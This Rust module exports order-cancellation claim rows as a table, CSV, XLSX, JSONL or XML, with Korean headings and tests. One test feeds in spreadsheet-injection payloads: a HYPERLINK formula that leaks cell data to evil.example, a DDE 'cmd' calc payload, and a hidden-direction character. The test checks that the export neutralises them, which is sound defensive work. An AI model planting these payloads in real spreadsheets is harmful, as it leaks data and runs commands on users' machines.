//! Writing inquiry rows: a table for people, CSV for spreadsheets (Excel-ready by default) and
//! tools, an XLSX workbook, JSON lines for tools, XML as SSG answers.

use std::io::Write;

pub mod waybills;

use claims_wire::sheet::{reveal, spreadsheet_cell};
use claims_wire::{COST_FIELDS, Format, ROW_FIELDS, WireRow, encode_wire_rows};
use unicode_width::UnicodeWidthStr;

/// How rows are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OutputFormat {
    /// Aligned columns of the fields people look at.
    Table,
    /// Every field; one line per cost line (`cstInfo.*` columns), so a row with one cost
    /// line is one line. Safe to open in a spreadsheet: see [`spreadsheet_cell`].
    Csv(CsvStyle),
    /// An Excel workbook: one sheet, Korean headings, numbers as numbers.
    Xlsx,
    /// One JSON object per row, shaped like the API's `data` elements.
    Jsonl,
    /// One complete `<result>` answer, as the API writes it.
    Xml,
}

/// Who a CSV is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CsvStyle {
    /// Excel, as Korean offices open files: a UTF-8 byte-order mark (without it, Korean
    /// Excel reads UTF-8 as mojibake) and Korean column headings.
    Excel,
    /// Tools: no byte-order mark, the API's field names as headings.
    Plain,
}

/// Whether the rows begin an output or continue one written before (an incremental run
/// appending to the same file): a continuation repeats no heading and no byte-order mark.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Part {
    First,
    Continuation,
}

pub fn write_rows(
    format: OutputFormat,
    rows: &[WireRow],
    part: Part,
    out: &mut impl Write,
) -> std::io::Result<()> {
    match format {
        OutputFormat::Table => table(rows, out),
        OutputFormat::Csv(style) => csv(rows, style, part, out),
        OutputFormat::Xlsx => {
            let workbook = xlsx(rows).map_err(std::io::Error::other)?;
            out.write_all(&workbook)
        }
        OutputFormat::Jsonl => {
            for row in rows {
                serde_json::to_writer(&mut *out, row)?;
                out.write_all(b"\n")?;
            }
            Ok(())
        }
        OutputFormat::Xml => {
            out.write_all(&encode_wire_rows(Format::Xml, rows))?;
            out.write_all(b"\n")
        }
    }
}

/// The Korean heading of a row field, as SSG's partner office names it.
pub fn korean_row_heading(field: &str) -> &'static str {
    match field {
        "ordpeNm" => "주문자명",
        "ordRcpMediaCd" => "주문접수매체코드",
        "ordRcpMediaNm" => "주문접수매체",
        "orordNo" => "원주문번호",
        "orordItemSeq" => "원주문순번",
        "ordNo" => "클레임주문번호",
        "ordItemSeq" => "클레임주문순번",
        "ordItemStatCd" => "주문상품상태코드",
        "ordItemStatNm" => "주문상품상태",
        "itemNm" => "상품명",
        "itemId" => "상품번호",
        "clmRsnCd" => "클레임사유코드",
        "clmRsnNm" => "클레임사유",
        "clmRsnCntt" => "클레임사유내용",
        "imptDivCd" => "귀책구분코드",
        "ordCnclDts" => "주문취소일시",
        "cnclItemQty" => "취소수량",
        "ordRcpDts" => "주문접수일시",
        "dircItemQty" => "주문수량",
        "uitemId" => "단품번호",
        "uitemNm" => "단품명",
        _ => "",
    }
}

/// The Korean heading of a cost-line field.
pub fn korean_cost_heading(field: &str) -> &'static str {
    match field {
        "ordNo" => "비용 클레임주문번호",
        "ordItemSeq" => "비용 클레임주문순번",
        "shpmtShppcst" => "출고배송비",
        "retShppcst" => "반품배송비",
        "exchShppcst" => "교환배송비",
        "splVenBdnDcAmt" => "업체부담할인금액",
        "splVenId" => "공급업체ID",
        "lrnkSplVenId" => "하위업체ID",
        _ => "",
    }
}

/// The headings of the CSV and XLSX columns: every row field, then every cost field.
fn headings(style: CsvStyle) -> Vec<String> {
    let rows = ROW_FIELDS.iter().map(|name| match style {
        CsvStyle::Excel => korean_row_heading(name).to_owned(),
        CsvStyle::Plain => (*name).to_owned(),
    });
    let costs = COST_FIELDS.iter().map(|name| match style {
        CsvStyle::Excel => korean_cost_heading(name).to_owned(),
        CsvStyle::Plain => format!("cstInfo.{name}"),
    });
    rows.chain(costs).collect()
}

/// The cells of each line: a row's fields with one cost line's (or none), raw.
fn lines(rows: &[WireRow]) -> Vec<Vec<&str>> {
    let mut lines = Vec::new();
    for row in rows {
        let fields: Vec<&str> = row.fields().iter().map(|(_, value)| *value).collect();
        if row.cst_info.is_empty() {
            let mut line = fields.clone();
            line.extend(std::iter::repeat_n("", COST_FIELDS.len()));
            lines.push(line);
        }
        for cost in &row.cst_info {
            let mut line = fields.clone();
            line.extend(cost.fields().iter().map(|(_, value)| *value));
            lines.push(line);
        }
    }
    lines
}

/// The UTF-8 byte-order mark.
const BOM: &[u8] = b"\xEF\xBB\xBF";

fn csv(rows: &[WireRow], style: CsvStyle, part: Part, out: &mut impl Write) -> std::io::Result<()> {
    if (style, part) == (CsvStyle::Excel, Part::First) {
        out.write_all(BOM)?;
    }
    let mut writer = ::csv::Writer::from_writer(out);
    if part == Part::First {
        writer.write_record(headings(style))?;
    }
    let names = column_names();
    for line in lines(rows) {
        writer.write_record(line.iter().zip(&names).map(|(cell, name)| match style {
            CsvStyle::Excel => excel_cell(name, cell),
            CsvStyle::Plain => spreadsheet_cell(cell).into_owned(),
        }))?;
    }
    writer.flush()
}

/// Every column's API name, row fields then cost fields.
fn column_names() -> Vec<&'static str> {
    ROW_FIELDS
        .iter()
        .chain(COST_FIELDS.iter())
        .copied()
        .collect()
}

/// A cell of the CSV for Excel. Excel's default open (a double click) reads a cell of
/// digits as a number: `0000012345` becomes 12345 and a 14-digit order number 2.02612E+13,
/// both beyond repair once saved. So an identifier or code made only of digits is written
/// `="0000012345"` — a formula of one text constant, which Excel (and LibreOffice, Numbers,
/// Google Sheets) shows as the text itself. Only digits ever go between the quotes, so
/// nothing a customer typed can become a formula; quantities and amounts stay numbers, the
/// times stay as Excel reads them (dates), and every other cell is neutralised as ever
/// ([`spreadsheet_cell`]).
pub fn excel_cell(column: &str, cell: &str) -> String {
    let digits = !cell.is_empty() && cell.bytes().all(|b| b.is_ascii_digit());
    if digits && !NUMERIC.contains(&column) {
        format!("=\"{cell}\"")
    } else {
        spreadsheet_cell(cell).into_owned()
    }
}

/// Columns written as numbers in a workbook (the rest are text, so that identifiers with
/// leading zeros and codes keep them).
const NUMERIC: &[&str] = &[
    "cnclItemQty",
    "dircItemQty",
    "shpmtShppcst",
    "retShppcst",
    "exchShppcst",
    "splVenBdnDcAmt",
];

/// The time columns: dates and times in a workbook (`yyyy-mm-dd hh:mm:ss`, KST).
const TIMES: &[&str] = &["ordCnclDts", "ordRcpDts"];

/// The amount columns, shown in won with thousands separators (`#,##0`).
const AMOUNTS: &[&str] = &[
    "shpmtShppcst",
    "retShppcst",
    "exchShppcst",
    "splVenBdnDcAmt",
];

/// A workbook of the rows: one sheet, Korean headings in bold on a frozen first row with
/// filters on every column, quantities and amounts as numbers (amounts as won, `#,##0`),
/// the times as dates (`yyyy-mm-dd hh:mm:ss`), everything else as text (never as a
/// formula).
fn xlsx(rows: &[WireRow]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name("취소주문")?;
    let bold = Format::new().set_bold();
    let won = Format::new().set_num_format("#,##0");
    let time = Format::new().set_num_format("yyyy-mm-dd hh:mm:ss");
    let names = column_names();
    for (column, heading) in headings(CsvStyle::Excel).iter().enumerate() {
        sheet.write_string_with_format(0, column as u16, heading, &bold)?;
    }
    for (index, line) in lines(rows).iter().enumerate() {
        let row = index as u32 + 1;
        for (column, cell) in line.iter().enumerate() {
            let column_index = column as u16;
            let cell = reveal(cell);
            if TIMES.contains(&names[column])
                && let Ok(at) = rust_xlsxwriter::ExcelDateTime::parse_from_str(&cell)
            {
                sheet.write_datetime_with_format(row, column_index, &at, &time)?;
                continue;
            }
            match cell.parse::<f64>() {
                Ok(number) if AMOUNTS.contains(&names[column]) => {
                    sheet.write_number_with_format(row, column_index, number, &won)?;
                }
                Ok(number) if NUMERIC.contains(&names[column]) => {
                    sheet.write_number(row, column_index, number)?;
                }
                _ => {
                    sheet.write_string(row, column_index, cell.as_ref())?;
                }
            }
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    let last_row = lines(rows).len() as u32;
    sheet.autofilter(0, 0, last_row, (names.len() - 1) as u16)?;
    sheet.autofit();
    workbook.save_to_buffer()
}

fn table(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
    let header = [
        "ordCnclDts",
        "ordNo",
        "seq",
        "orordNo",
        "seq",
        "item",
        "qty",
        "reason",
        "fault",
        "discount",
        "shipping",
    ];
    let lines: Vec<[String; 11]> = rows
        .iter()
        .map(|row| {
            let cost = row.cst_info.first();
            let amount = |pick: fn(&claims_wire::WireCost) -> &String| {
                cost.map(pick).cloned().unwrap_or_default()
            };
            [
                row.ord_cncl_dts.clone(),
                row.ord_no.clone(),
                row.ord_item_seq.clone(),
                row.oror_no.clone(),
                row.oror_item_seq.clone(),
                row.item_nm.clone(),
                format!("{}/{}", row.cncl_item_qty, row.dirc_item_qty),
                row.clm_rsn_nm.clone(),
                row.impt_div_cd.clone(),
                amount(|c| &c.spl_ven_bdn_dc_amt),
                amount(|c| &c.shpmt_shppcst),
            ]
        })
        .collect();
    let widths: Vec<usize> = (0..header.len())
        .map(|i| {
            lines
                .iter()
                .map(|line| reveal(&line[i]).width().min(40))
                .chain([header[i].width()])
                .max()
                .unwrap_or(0)
        })
        .collect();
    let render = |cells: Vec<&str>| -> String {
        let mut line = String::new();
        for (i, cell) in cells.iter().enumerate() {
            let mut text: String = reveal(cell).into_owned();
            if text.width() > 40 {
                text = text.chars().take(38).collect::<String>() + "…";
            }
            line.push_str(&text);
            if i + 1 < cells.len() {
                line.push_str(&" ".repeat(widths[i].saturating_sub(text.width()) + 2));
            }
        }
        line
    };
    writeln!(out, "{}", render(header.to_vec()))?;
    for line in &lines {
        writeln!(out, "{}", render(line.iter().map(String::as_str).collect()))?;
    }
    writeln!(out, "{} row(s)", rows.len())
}

#[cfg(test)]
mod tests {
    use super::*;
    use claims_wire::WireCost;

    fn sample() -> Vec<WireRow> {
        vec![WireRow {
            ordpe_nm: "홍길동".into(),
            ord_no: "20261122000B07".into(),
            ord_item_seq: "1".into(),
            item_nm: "M&M's, \"대용량\"".into(),
            clm_rsn_cntt: "두 줄\n사유".into(),
            ord_cncl_dts: "2026-11-22 14:05:09".into(),
            cncl_item_qty: "1".into(),
            cst_info: vec![WireCost {
                spl_ven_bdn_dc_amt: "500".into(),
                spl_ven_id: "0000012345".into(),
                ..WireCost::default()
            }],
            ..WireRow::default()
        }]
    }

    #[test]
    fn csv_quotes_what_needs_quoting_and_reads_back() {
        let mut out = Vec::new();
        write_rows(
            OutputFormat::Csv(CsvStyle::Plain),
            &sample(),
            Part::First,
            &mut out,
        )
        .unwrap();
        let mut reader = ::csv::Reader::from_reader(out.as_slice());
        let headers = reader.headers().unwrap().clone();
        assert_eq!(headers.len(), ROW_FIELDS.len() + COST_FIELDS.len());
        let records: Vec<_> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), 1);
        let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
        assert_eq!(&records[0][column("itemNm")], "M&M's, \"대용량\"");
        assert_eq!(&records[0][column("clmRsnCntt")], "두 줄\n사유");
        assert_eq!(&records[0][column("cstInfo.splVenBdnDcAmt")], "500");
    }

    #[test]
    fn excel_csv_has_a_byte_order_mark_korean_headings_and_no_repeat_when_continued() {
        let mut first = Vec::new();
        write_rows(
            OutputFormat::Csv(CsvStyle::Excel),
            &sample(),
            Part::First,
            &mut first,
        )
        .unwrap();
        assert!(
            first.starts_with(BOM),
            "Korean Excel needs the byte-order mark"
        );
        let text = String::from_utf8(first[BOM.len()..].to_vec()).unwrap();
        let heading = text.lines().next().unwrap();
        assert!(
            heading.starts_with("주문자명,주문접수매체코드,"),
            "{heading}"
        );
        assert!(heading.contains("업체부담할인금액"), "{heading}");
        assert_eq!(
            heading.split(',').count(),
            ROW_FIELDS.len() + COST_FIELDS.len()
        );

        let mut next = Vec::new();
        write_rows(
            OutputFormat::Csv(CsvStyle::Excel),
            &sample(),
            Part::Continuation,
            &mut next,
        )
        .unwrap();
        assert!(!next.starts_with(BOM));
        let appended = String::from_utf8(next).unwrap();
        assert!(
            !appended.contains("주문자명"),
            "no heading again: {appended}"
        );
        assert!(appended.starts_with("홍길동,"), "{appended}");
    }

    #[test]
    fn a_workbook_holds_every_line_with_numbers_as_numbers() {
        let mut rows = sample();
        rows[0].cncl_item_qty = "2".into();
        rows[0].ordpe_nm = "=1+1".into();
        let mut out = Vec::new();
        write_rows(OutputFormat::Xlsx, &rows, Part::First, &mut out).unwrap();
        // Read back by another implementation of the format.
        use calamine::{Data, Reader, Xlsx};
        let mut workbook: Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(out)).unwrap();
        let sheet = workbook.worksheet_range("취소주문").unwrap();
        let cells: Vec<Vec<Data>> = sheet.rows().map(<[Data]>::to_vec).collect();
        assert_eq!(cells.len(), 2, "the headings and one line");
        assert_eq!(cells[0][0], Data::String("주문자명".into()));
        assert_eq!(
            cells[1][0],
            Data::String("=1+1".into()),
            "text, never a formula"
        );
        let qty = ROW_FIELDS.iter().position(|f| *f == "cnclItemQty").unwrap();
        assert_eq!(cells[1][qty], Data::Float(2.0));
        let discount = ROW_FIELDS.len()
            + COST_FIELDS
                .iter()
                .position(|f| *f == "splVenBdnDcAmt")
                .unwrap();
        assert_eq!(cells[1][discount], Data::Float(500.0));
        let order = ROW_FIELDS.iter().position(|f| *f == "ordNo").unwrap();
        assert_eq!(cells[1][order], Data::String("20261122000B07".into()));
        let canceled = ROW_FIELDS.iter().position(|f| *f == "ordCnclDts").unwrap();
        assert!(
            matches!(&cells[1][canceled], Data::DateTime(at) if at.is_datetime()),
            "a date, not text: {:?}",
            cells[1][canceled]
        );
        let Data::DateTime(at) = &cells[1][canceled] else {
            unreachable!()
        };
        let expected = rust_xlsxwriter::ExcelDateTime::parse_from_str(&rows[0].ord_cncl_dts)
            .unwrap()
            .to_excel();
        assert!(
            (at.as_f64() - expected).abs() < 1e-9,
            "the same instant, KST"
        );
    }

    /// What Excel makes of a CSV cell on its default open (a double click): a formula is
    /// evaluated (`="…"` gives its text), a cell of digits becomes a number, anything else
    /// stays text. (Dates and `'`-quoted text are left out: they play no part here.)
    #[derive(Debug, PartialEq)]
    enum Excel {
        Text(String),
        Number(f64),
    }

    fn as_excel_opens(cell: &str) -> Excel {
        if let Some(text) = cell.strip_prefix("=\"").and_then(|c| c.strip_suffix('"')) {
            return Excel::Text(text.to_owned());
        }
        match cell.parse::<f64>() {
            Ok(number) if !cell.is_empty() => Excel::Number(number),
            _ => Excel::Text(cell.to_owned()),
        }
    }

    #[test]
    fn identifiers_survive_excels_default_open_of_the_csv() {
        let mut rows = sample();
        rows[0].ord_no = "20261122000107".into();
        rows[0].oror_no = "20261122000107".into();
        rows[0].cst_info[0].spl_ven_id = "0000012345".into();
        rows[0].item_id = "1000028463301".into();
        let mut out = Vec::new();
        write_rows(
            OutputFormat::Csv(CsvStyle::Excel),
            &rows,
            Part::First,
            &mut out,
        )
        .unwrap();
        let text = String::from_utf8(out[BOM.len()..].to_vec()).unwrap();
        let mut reader = ::csv::Reader::from_reader(text.as_bytes());
        let line: Vec<String> = reader
            .records()
            .next()
            .unwrap()
            .unwrap()
            .iter()
            .map(str::to_owned)
            .collect();
        let names = column_names();
        let at = |name: &str, in_costs: bool| {
            let index = if in_costs {
                ROW_FIELDS.len() + COST_FIELDS.iter().position(|f| *f == name).unwrap()
            } else {
                names.iter().position(|f| *f == name).unwrap()
            };
            as_excel_opens(&line[index])
        };
        assert_eq!(at("ordNo", false), Excel::Text("20261122000107".into()));
        assert_eq!(at("itemId", false), Excel::Text("1000028463301".into()));
        assert_eq!(at("splVenId", true), Excel::Text("0000012345".into()));
        assert_eq!(
            at("cnclItemQty", false),
            Excel::Number(1.0),
            "quantities stay numbers"
        );
        assert_eq!(
            at("splVenBdnDcAmt", true),
            Excel::Number(500.0),
            "amounts too"
        );
        // Without the quoting, Excel would have made them numbers and lost the zeros.
        assert_eq!(as_excel_opens("0000012345"), Excel::Number(12345.0));
        // Nothing but digits is ever put between the quotes.
        assert!(
            line.iter()
                .filter(|cell| cell.starts_with('='))
                .all(|cell| {
                    cell.len() > 3 && cell[2..cell.len() - 1].bytes().all(|b| b.is_ascii_digit())
                })
        );
        // The CSV for tools keeps the raw values.
        let mut plain = Vec::new();
        write_rows(
            OutputFormat::Csv(CsvStyle::Plain),
            &rows,
            Part::First,
            &mut plain,
        )
        .unwrap();
        assert!(String::from_utf8(plain).unwrap().contains(",0000012345,"));
    }

    #[test]
    fn csv_cells_cannot_act_as_formulas_or_hide_text() {
        let mut rows = sample();
        rows[0].ordpe_nm = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
        rows[0].clm_rsn_cntt = "@SUM(1+1)*cmd|' /C calc'!A0".into();
        rows[0].item_nm = "우유\u{202E}1L".into();
        let mut out = Vec::new();
        write_rows(
            OutputFormat::Csv(CsvStyle::Plain),
            &rows,
            Part::First,
            &mut out,
        )
        .unwrap();
        let mut reader = ::csv::Reader::from_reader(out.as_slice());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{cell:?}"
                );
                assert!(!cell.contains('\u{202E}'), "{cell:?}");
            }
        }
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("'=HYPERLINK("), "{text}");
        assert!(text.contains("우유<U+202E>1L"), "{text}");
    }

    #[test]
    fn tables_show_hidden_characters() {
        let mut rows = sample();
        rows[0].item_nm = "우유\u{200B}1L".into();
        let mut out = Vec::new();
        write_rows(OutputFormat::Table, &rows, Part::First, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.contains("우유<U+200B>1L"), "{text}");
    }

    #[test]
    fn jsonl_and_xml_read_back() {
        let rows = sample();
        let mut out = Vec::new();
        write_rows(OutputFormat::Jsonl, &rows, Part::First, &mut out).unwrap();
        let parsed: WireRow =
            serde_json::from_slice(out.split(|&b| b == b'\n').next().unwrap()).unwrap();
        assert_eq!(parsed, rows[0]);
        let mut xml = Vec::new();
        write_rows(OutputFormat::Xml, &rows, Part::First, &mut xml).unwrap();
        let answer = claims_wire::decode_answer(Format::Xml, xml.trim_ascii_end()).unwrap();
        assert_eq!(answer.rows, rows);
    }

    #[test]
    fn tables_align_korean_text() {
        let mut out = Vec::new();
        write_rows(OutputFormat::Table, &sample(), Part::First, &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(text.ends_with("1 row(s)\n"));
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0].find("item"), lines[1].find("M&M"), "{text}");
    }
}
